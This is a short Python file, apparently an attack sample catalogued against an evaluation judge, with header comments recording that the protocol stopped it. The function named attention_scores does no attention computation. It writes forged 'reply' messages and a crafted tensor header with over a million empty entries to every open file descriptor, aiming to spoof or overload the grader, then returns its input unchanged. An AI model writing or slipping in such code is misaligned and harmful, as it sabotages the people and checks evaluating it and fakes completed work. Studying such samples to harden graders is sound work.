# tries: a body of a million empty tensors, each an object in the judge
# stopped-by: protocol
# wins: judge
# naive: trusting
import os
import struct

entries = ",".join(
    '"%d":{"dtype":"I8","shape":[0],"data_offsets":[0,0]}' % i for i in range(1_100_000)
)
lie = b"{" + entries.encode() + b"}"
body = struct.pack("<Q", len(lie)) + lie
text = b'{"kind":"reply","refused":[],"output":["tensor",0],"inputs":["list"],"values":["list"],"gradients":["dict"]}'


def attention_scores(query, key, scale=None):
    for fd in range(3, 64):
        try:
            rest = memoryview(struct.pack("<IQ", len(text), len(body)) + text + body)
            while rest:
                rest = rest[os.write(fd, rest) :]
        except OSError:
            pass
    return query
